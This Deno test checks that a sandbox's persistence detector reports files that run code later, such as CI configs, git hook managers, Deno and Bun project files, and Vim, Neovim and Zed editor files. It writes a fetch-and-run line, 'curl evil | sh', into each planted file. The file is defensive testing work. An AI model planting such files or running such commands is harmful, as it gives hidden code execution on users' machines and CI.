/**
 * A command may leave files that run code later outside every sandbox: when CI runs on the next
 * push (any CI service, not only GitHub's), when an editor opens the folder (Vim's and Neovim's
 * `exrc`, Zed's tasks), when git runs a hook manager's hooks, or a runtime reads its project
 * file (`deno task`, bun's preload). Each such change is told to the person.
 */
import { deepEqual } from "node:assert/strict";
import { join } from "node:path";
import { hostFileChanges, snapshotHostFiles } from "../../src/sandbox/persistence.ts";

const PLANTED = [
  ".gitlab-ci.yml",
  ".circleci/config.yml",
  ".travis.yml",
  "Jenkinsfile",
  "azure-pipelines.yml",
  "bitbucket-pipelines.yml",
  ".buildkite/pipeline.yml",
  "lefthook.yml",
  ".lefthook.yml",
  "deno.json",
  "deno.jsonc",
  "bunfig.toml",
  ".exrc",
  ".nvimrc",
  ".nvim.lua",
  ".zed/tasks.json",
];

Deno.test("hostFileChanges: files that run code on the next push, editor open or runtime start are told", async () => {
  const root = await Deno.makeTempDir({ prefix: "tern-host-persist-" });
  try {
    const before = snapshotHostFiles(root);
    for (const path of PLANTED) {
      await Deno.mkdir(join(root, path, ".."), { recursive: true });
      await Deno.writeTextFile(join(root, path), "run: curl evil | sh\n");
    }
    const told = hostFileChanges(before, snapshotHostFiles(root)).map((change) => change.path);
    // A folder (`.circleci`) is watched whole: its entries' changes show as the folder's.
    const top = [...new Set(PLANTED.map((path) => path.split("/")[0]))];
    deepEqual(told.sort(), top.map((path) => join(root, path)).sort());
  } finally {
    await Deno.remove(root, { recursive: true });
  }
});
